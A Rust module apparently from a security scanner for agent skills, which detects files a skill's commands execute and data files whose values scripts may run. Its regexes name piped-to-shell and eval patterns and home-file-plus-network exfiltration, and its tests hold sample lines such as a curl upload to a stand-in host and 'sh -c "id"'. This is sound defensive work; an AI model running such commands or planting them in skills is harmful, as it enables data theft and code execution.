//! Files the skill's own commands run. An instruction such as `make -f references/style.txt` or `bash notes.md`
//! turns a file into a program whatever its name says, so such a file is scanned as code in the language of what
//! runs it. Commands are read where an agent would take them from: SKILL.md's and other markdown files' code blocks
//! and inline code, and the lines of shell scripts the skill ships.

use std::path::Path;
use std::sync::LazyLock;

use regex::Regex;

use airlock_types::{FileKind, Inventory, InventoryEntry};
use rayon::prelude::*;

use crate::markdown::{segments, Segment};

/// Only this much of each file is read for commands.
const MAX_READ: u64 = 1 << 20;

/// A program (or shell `source`) followed by the path of the file it runs.
static RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?x)
        (?:^|[\s;&|(`])(?:sudo\s+)?(?:env\s+)?
        (?:
            (?P<make>g?make)(?:\s+-[^\s]*)*?\s+(?:-f\s*|--file[=\s]\s*|--makefile[=\s]\s*)
          | (?P<prog>python(?:3(?:\.\d+)?)?|bash|sh|zsh|dash|ksh|source|\.|node|bun|deno\s+run|tsx|npx\s+tsx|perl|ruby)
            (?:\s+-[a-zA-Z-]+)*\s+
        )
        (?:<\s*)?["']?(?P<path>[^\s"';|&)`<>]+)
        "#,
    )
    .ok()
});

/// A program that runs a file it is not given as its argument: a shell running the file's lines one by one, the
/// file on standard input through a pipe or a redirection, a process substitution, or the file's text as `-c`'s
/// code: `xargs -I{} sh -c {} < FILE`, `while read l; do eval "$l"; done < FILE`, `cat FILE | bash`,
/// `cat FILE | python3`, `python3 - < FILE`, `bash <(cat FILE)`, `bash -c "$(cat FILE)"`, `eval "$(cat FILE)"`.
static RUNS_LINES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?x)
        \b(?:xargs|parallel|while\s+(?:IFS=\S*\s+)?read)\b[^\n]*?\b(?P<a>sh|bash|zsh|dash|eval)\b[^\n]*?<\s*["']?(?P<p>[^\s"';|&)`<>]+)
      | \bcat\s+["']?(?P<q>[^\s"';|&)`<>]+)["']?\s*\|\s*
        (?:(?:xargs|parallel)\b[^|\n]*?\b(?P<b>sh|bash|zsh|dash)\b
          |(?:sudo\s+)?(?P<c>sh|bash|zsh|dash|python3?(?:\.\d+)?|node|perl|ruby)\b(?:\s+-s?)?\s*(?:$|[;&|)]))
      | \b(?P<d>python3?(?:\.\d+)?|node|perl|ruby|sh|bash|zsh|dash)\s+-\s*<\s*["']?(?P<r>[^\s"';|&)`<>]+)
      | (?:^|[\s;&|(])(?P<e>python3?(?:\.\d+)?|node|perl|ruby|sh|bash|zsh|dash|source|\.)\s+<\(\s*cat\s+["']?(?P<s>[^\s"';|&)`<>]+)
      | \b(?:(?P<f>python3?(?:\.\d+)?|node|perl|ruby|sh|bash|zsh|dash)\s+-[ce]|(?P<g>eval))\s+["']?\$\(\s*(?:cat\s+|<\s*)["']?(?P<t>[^\s"';|&)`<>]+)
      | \b(?:xargs|parallel)\b[^\n|]*?\s(?:-a\s*|--arg-file[=\s])["']?(?P<u>[^\s"';|&)`<>]+)[^\n|]*?\b(?P<h>sh|bash|zsh|dash|eval)\b
      | \bBASH_ENV=["']?(?P<v>[^\s"';|&)`<>]+)["']?\s+(?:\S+\s+)*?(?P<i>bash)\b
        "#,
    )
    .ok()
});

/// One file that a command of the skill runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Executed {
    /// The file run, as an inventory path.
    pub file: String,
    /// Where the command is: file and line.
    pub by: String,
    pub line: u32,
    /// What runs it (`make`, `python3`, `bash`, `source`, ...).
    pub runner: String,
    /// The language it is scanned as.
    pub language: &'static str,
}

fn language_of_runner(runner: &str) -> &'static str {
    match runner {
        "make" | "gmake" => "make",
        r if r.starts_with("python") => "python",
        "node" | "bun" | "tsx" | "npx tsx" | "deno run" => "javascript",
        "perl" => "perl",
        "ruby" => "ruby",
        _ => "shell",
    }
}

/// Every file of the inventory that a command in the skill's instructions or shell scripts runs, once for each
/// command that runs it (by file, then by where the command is).
pub fn executed(inventory: &Inventory, tree_root: &Path) -> Vec<Executed> {
    // Files are independent: each read on any core.
    let paths: std::collections::HashSet<&str> = inventory.files.iter().map(|f| f.path.as_str()).collect();
    let mut out: Vec<Executed> = inventory
        .files
        .par_iter()
        .flat_map_iter(|entry| executed_by(inventory, &paths, tree_root, entry))
        .collect();
    out.sort_by(|a, b| (&a.file, &a.by, a.line).cmp(&(&b.file, &b.by, b.line)));
    out.dedup();
    out
}

/// The files of the inventory that the commands of one file (markdown or a shell script) run.
fn executed_by(
    inventory: &Inventory,
    paths: &std::collections::HashSet<&str>,
    tree_root: &Path,
    entry: &InventoryEntry,
) -> Vec<Executed> {
    let mut out = Vec::new();
    let shell_script = entry.kind == FileKind::Script && entry.language.as_deref() == Some("shell");
    let markdown = matches!(entry.kind, FileKind::SkillMd | FileKind::Markdown);
    if !shell_script && !markdown {
        return out;
    }
    let Some(text) = read_head(tree_root, &entry.path) else {
        return out;
    };
    let mut found = |line: u32, command: &str| {
        for (runner, path) in commands(command) {
            if let Some(file) = resolve(inventory, paths, &entry.path, &path) {
                if file != entry.path {
                    out.push(Executed {
                        language: language_of_runner(&runner),
                        file,
                        by: entry.path.clone(),
                        line,
                        runner,
                    });
                }
            }
        }
    };
    if shell_script {
        for (i, l) in text.lines().enumerate() {
            found(u32::try_from(i + 1).unwrap_or(u32::MAX), l);
        }
        return out;
    }
    let mut by_order = Vec::new();
    for segment in segments(&text, 1) {
        match segment {
            Segment::Code { line, text, .. } => {
                for (i, l) in text.lines().enumerate() {
                    found(line + u32::try_from(i).unwrap_or(0), l);
                }
            }
            Segment::Prose {
                line,
                text,
                inline_code,
            } => {
                for &(start, end) in &inline_code {
                    if let Some(code) = text.get(start..end) {
                        found(line, code.trim_matches('`'));
                    }
                }
                // An order to run what a file of no code kind holds (`Run the commands in \`setup.txt\``, `Run the
                // \`setup\` command from \`assets/profile.json\``): the file is read as the commands it holds.
                for &(start, end) in &inline_code {
                    let (Some(before), Some(code)) = (text.get(..start), text.get(start..end)) else {
                        continue;
                    };
                    let path = code.trim_matches('`');
                    let ordered = RUN_WHAT_IS_IN.as_ref().is_some_and(|re| re.is_match(before));
                    // A guide the instructions say to follow (`Follow \`references/install.md\` before continuing`)
                    // is followed as instructions are.
                    let follow = FOLLOW_WHAT_IS_IN.as_ref().is_some_and(|re| re.is_match(before));
                    if path.contains(char::is_whitespace) || !(ordered || follow) {
                        continue;
                    }
                    let Some(file) = resolve(inventory, paths, &entry.path, path) else {
                        continue;
                    };
                    let kind = inventory.files.iter().find(|f| f.path == file).map(|f| f.kind);
                    if !ordered && kind != Some(FileKind::Markdown) {
                        continue;
                    }
                    let data = matches!(kind, Some(FileKind::Other | FileKind::Asset));
                    // A markdown file whose commands the instructions order run: its code blocks are steps, as
                    // SKILL.md's are, not reference material.
                    let ordered_doc = kind == Some(FileKind::Markdown);
                    if (data || ordered_doc) && file != entry.path {
                        by_order.push(Executed {
                            language: if ordered_doc { ORDERED_DOC } else { "shell" },
                            file,
                            by: entry.path.clone(),
                            line,
                            runner: "the instructions".to_owned(),
                        });
                    }
                }
            }
            Segment::HtmlComment { .. } => {}
        }
    }
    out.extend(by_order);
    out
}

/// The language given a markdown file whose commands the instructions order run: it stays markdown, and its code
/// blocks count as the instructions' own.
pub const ORDERED_DOC: &str = "instructions to run";

/// Prose that orders run what a file holds, up to the file's name: `Run the commands in `, `Run the \`setup\` command
/// from `, `paste the lines of `.
static RUN_WHAT_IS_IN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:run|execute|paste|source)\b[^.;:]{0,60}\b(?:in|from|of|inside|within)\s*$").ok()
});

/// Prose that has a guide followed, up to its name: `Follow `, `Complete the steps in `, `Work through `.
static FOLLOW_WHAT_IS_IN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:follow|complete|carry\s+out|work\s+through|go\s+through)\b(?:\s+(?:the\s+)?(?:steps|instructions|setup|guide|commands)\s+(?:in|of|from))?\s*$").ok()
});

static RUNS_SOMETHING: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"\bsubprocess\.|\brunpy\.run_(path|module)\b|\bos\.(system|popen|exec\w*|spawn\w*)\b|\bPopen\(|child_process|\bexecSync\(|\bspawn(Sync)?\(|\bexecFile(Sync)?\(|\bexec\(|\beval\(|\bIO\.popen|\bsystem\(|\bInvoke-Expression\b|\bsh\s+-c\b|\bbash\s+-c\b",
    )
    .ok()
});

/// Data a script of the skill loads and runs commands beside: a value of it may be the command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Loaded {
    /// The data file, as an inventory path.
    pub file: String,
    /// The script that names it and runs commands.
    pub by: String,
}

/// A script that opens paths under the home folder (`os.path.expanduser(p)`, `Path.home()`, `os.homedir()`) and
/// sends over the network: both must hold.
static SENDS_HOME_FILES: LazyLock<[Option<Regex>; 2]> = LazyLock::new(|| {
    [
        Regex::new(r"\bexpanduser\(|\bPath\.home\(\)|\bos\.homedir\(\)|\bhomedir\(\)").ok(),
        Regex::new(
            r"\burlopen\(|\brequests\.(?:post|put|patch)\(|\bhttpx\.(?:post|put|patch)\(|\bfetch\(|\bsmtplib\b|\bhttp\.client\b|\b(?:https?|net)\.request\(",
        )
        .ok(),
    ]
});

/// Every data file of the skill (JSON, YAML, TOML, text) that a script of the skill names and that script runs
/// commands or code (`cfg = json.loads(Path("config.json").read_text())` … `subprocess.run(cfg["report"])`): what
/// such a file holds is what the script may run, so it is read as commands, not as data.
pub fn loaded_and_run(inventory: &Inventory, tree_root: &Path) -> Vec<Loaded> {
    let skills: Vec<&str> = inventory
        .files
        .iter()
        .filter(|f| f.kind == FileKind::SkillMd)
        .map(|f| f.path.rsplit_once('/').map_or("", |(d, _)| d))
        .collect();
    // Each data file with its skill, found once; a script is compared with its own skill's data only.
    let data: Vec<(&str, Option<&str>)> = inventory
        .files
        .iter()
        .filter(|f| matches!(f.kind, FileKind::Asset | FileKind::Other) && is_data_name(&f.path))
        .map(|f| (f.path.as_str(), owner(&skills, &f.path)))
        .collect();
    let mut out = Vec::new();
    if data.is_empty() {
        return out;
    }
    let Some(runs) = RUNS_SOMETHING.as_ref() else {
        return out;
    };
    let scripts: Vec<&InventoryEntry> = inventory
        .files
        .iter()
        .filter(|f| f.kind == FileKind::Script)
        .collect();
    out = scripts
        .par_iter()
        .flat_map_iter(|entry| {
            let mut found = Vec::new();
            let Some(text) = read_head(tree_root, &entry.path) else {
                return found;
            };
            // A script that opens paths in the home folder and sends over the network takes what it opens and
            // where it sends from the data as surely as a command it runs.
            let sends_home_files = SENDS_HOME_FILES
                .iter()
                .all(|re| re.as_ref().is_some_and(|re| re.is_match(&text)));
            if !runs.is_match(&text) && !sends_home_files {
                return found;
            }
            let own = owner(&skills, &entry.path);
            for (path, _) in data.iter().filter(|(_, o)| *o == own) {
                let name = path.rsplit('/').next().unwrap_or(path);
                let named = ['"', '\'', '/', '`']
                    .iter()
                    .any(|q| text.contains(&format!("{q}{name}")) || text.contains(&format!("{name}{q}")));
                if named {
                    found.push(Loaded {
                        file: (*path).to_owned(),
                        by: entry.path.clone(),
                    });
                }
            }
            found
        })
        .collect();
    out.sort_by(|a, b| (&a.file, &a.by).cmp(&(&b.file, &b.by)));
    out.dedup_by(|a, b| a.file == b.file);
    out
}

/// The first [`MAX_READ`] bytes of a file of the tree, as text; `None` when it cannot be read.
fn read_head(tree_root: &Path, path: &str) -> Option<String> {
    let file = fs_err::File::open(tree_root.join(path)).ok()?;
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut std::io::Read::take(file, MAX_READ), &mut bytes).ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// Whether a file's name says it holds data a program loads.
fn is_data_name(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    [".json", ".yaml", ".yml", ".toml", ".txt", ".cfg", ".ini", ".conf"]
        .iter()
        .any(|e| lower.ends_with(e))
}

/// The skill a file belongs to: the deepest folder with a SKILL.md above it (a script names data of its own skill,
/// not another's file of the same name).
fn owner<'a>(skills: &[&'a str], path: &str) -> Option<&'a str> {
    skills
        .iter()
        .filter(|d| d.is_empty() || path.strip_prefix(**d).is_some_and(|rest| rest.starts_with('/')))
        .max_by_key(|d| d.len())
        .copied()
}

/// A data file's values, one line for each of its lines (so every finding keeps its line): a JSON line's strings
/// that are values (`"sync": ["curl", "-s", "https://x"]` is `curl -s https://x`), a YAML or TOML line's value.
pub fn values_as_commands(text: &str) -> String {
    static STRING: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#""((?:[^"\\]|\\.)*)"\s*(:)?"#).ok());
    static KEY: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#"^\s*(?:-\s+)?(?:[\w.-]+\s*[:=]\s*)?"#).ok());
    let (Some(string), Some(key)) = (STRING.as_ref(), KEY.as_ref()) else {
        return String::new();
    };
    let mut out = String::with_capacity(text.len());
    for line in text.lines() {
        let strings: Vec<_> = string.captures_iter(line).collect();
        if strings.is_empty() {
            let value = key.replace(line, "");
            out.push_str(value.trim().trim_matches(['"', '\'']));
        } else {
            let values: Vec<String> = strings
                .iter()
                .filter(|c| c.get(2).is_none())
                .map(|c| c[1].replace("\\\"", "\"").replace("\\\\", "\\"))
                .collect();
            out.push_str(&values.join(" "));
        }
        out.push('\n');
    }
    out
}

/// The (runner, path) pairs a command line names.
fn commands(line: &str) -> Vec<(String, String)> {
    let Some(re) = RUNS.as_ref() else {
        return Vec::new();
    };
    let mut found: Vec<(String, String)> = re
        .captures_iter(line)
        .filter_map(|c| {
            let runner = c.name("make").or_else(|| c.name("prog"))?.as_str();
            let runner = runner.split_whitespace().collect::<Vec<_>>().join(" ");
            Some((runner, c.name("path")?.as_str().to_owned()))
        })
        .collect();
    if let Some(lines) = RUNS_LINES.as_ref() {
        for c in lines.captures_iter(line) {
            let runner = ["a", "b", "c", "d", "e", "f", "g", "h", "i"]
                .iter()
                .find_map(|n| c.name(n));
            let path = ["p", "q", "r", "s", "t", "u", "v"].iter().find_map(|n| c.name(n));
            if let (Some(runner), Some(path)) = (runner, path) {
                let runner = match runner.as_str() {
                    "eval" | "source" | "." => "sh",
                    r => r,
                };
                found.push((runner.to_owned(), path.as_str().to_owned()));
            }
        }
    }
    found
}

/// The inventory path a command's path argument names, looked up from the commanding file's folder first, then as
/// a path anywhere in the tree (skills name their files from the skill's folder, often behind a variable such as
/// `${CLAUDE_SKILL_DIR}/` or `{baseDir}/`).
fn resolve(
    inventory: &Inventory,
    paths: &std::collections::HashSet<&str>,
    by: &str,
    path: &str,
) -> Option<String> {
    let parts: Vec<&str> = path
        .split('/')
        .skip_while(|p| p.contains(['$', '{', '}', '~']) || p.is_empty())
        .collect();
    if parts.is_empty() || parts.iter().any(|p| p.contains(['$', '{', '}', '*'])) {
        return None;
    }
    let dir = by.rsplit_once('/').map_or("", |(d, _)| d);
    let mut joined: Vec<&str> = if dir.is_empty() {
        Vec::new()
    } else {
        dir.split('/').collect()
    };
    for p in &parts {
        match *p {
            "." => {}
            ".." => {
                joined.pop();
            }
            p => joined.push(p),
        }
    }
    let near = joined.join("/");
    let tail: Vec<&str> = parts
        .iter()
        .copied()
        .filter(|p| *p != "." && *p != "..")
        .collect();
    let tail = tail.join("/");
    if tail.is_empty() {
        return None;
    }
    if paths.contains(near.as_str()) {
        return Some(near);
    }
    let suffix = format!("/{tail}");
    let common = |p: &str| p.bytes().zip(by.bytes()).take_while(|(a, b)| a == b).count();
    inventory
        .files
        .iter()
        .filter(|f| f.path == tail || f.path.ends_with(&suffix))
        .max_by_key(|f| common(&f.path))
        .map(|f| f.path.clone())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_what_commands_run() {
        let got = |l: &str| commands(l);
        assert_eq!(
            got("make -s -f references/style.txt all"),
            vec![("make".into(), "references/style.txt".into())]
        );
        assert_eq!(got("python3 -u scripts/x.py a b")[0].1, "scripts/x.py");
        assert_eq!(
            got("cd x && bash ./setup.md")[0],
            ("bash".into(), "./setup.md".into())
        );
        assert_eq!(got("source \"$DIR/env.cfg\"")[0].1, "$DIR/env.cfg");
        assert_eq!(got(". notes/rc.txt")[0], (".".into(), "notes/rc.txt".into()));
        assert_eq!(got("npx tsx tools/a.data")[0].0, "npx tsx");
        assert!(got("Remember to use make for this.").is_empty());
        // A shell reading the file on its standard input runs it as well.
        assert_eq!(
            got("bash < references/profile.txt")[0].1,
            "references/profile.txt"
        );
        // A shell that runs the file's lines one by one, or reads it from a pipe.
        for line in [
            "xargs -I{} sh -c {} < references/profile.txt",
            "while read -r l; do eval \"$l\"; done < references/profile.txt",
            "while IFS= read -r l; do bash -c \"$l\"; done <references/profile.txt",
            "cat references/profile.txt | bash",
            "cat 'references/profile.txt' | sudo sh -s",
            "cat references/profile.txt | xargs -L1 sh -c",
            "python3 - < references/profile.txt",
            "bash -c \"$(cat references/profile.txt)\"",
            "eval \"$(cat references/profile.txt)\"",
            "source <(cat references/profile.txt)",
            "python3 -c \"$(< references/profile.txt)\"",
            "xargs -a references/profile.txt -I{} sh -c '{}'",
            "parallel --arg-file references/profile.txt bash -c",
            "env BASH_ENV=references/profile.txt bash -c :",
        ] {
            assert_eq!(
                got(line).last().map(|(_, p)| p.as_str()),
                Some("references/profile.txt"),
                "{line}"
            );
        }
        assert_eq!(
            got("cat assets/notes.txt | python3")
                .last()
                .map(|(r, _)| r.as_str()),
            Some("python3")
        );
        assert_eq!(
            got("eval \"$(cat x.txt)\"").last().map(|(r, _)| r.as_str()),
            Some("sh")
        );
        // Reading a file through a pipe into something that is not a shell runs nothing.
        assert!(got("cat references/profile.txt | grep curl").is_empty());
        assert!(got("xargs -I{} echo {} < references/list.txt").is_empty());
        assert!(got("xargs -a references/list.txt -I{} echo {}").is_empty());
    }

    #[test]
    fn a_data_files_values_keep_their_lines() {
        let json = "{\n  \"max\": 5,\n  \"sync\": [\"curl\", \"-F\", \"idx=@{index}\", \"https://x.example/c\"],\n  \"cmd\": \"sh -c \\\"id\\\"\"\n}\n";
        assert_eq!(
            values_as_commands(json),
            "{\n\ncurl -F idx=@{index} https://x.example/c\nsh -c \"id\"\n}\n"
        );
        let yaml = "report:\n  - curl -s https://x.example/r\nname: \"tool\"\n";
        assert_eq!(values_as_commands(yaml), "\ncurl -s https://x.example/r\ntool\n");
    }
}
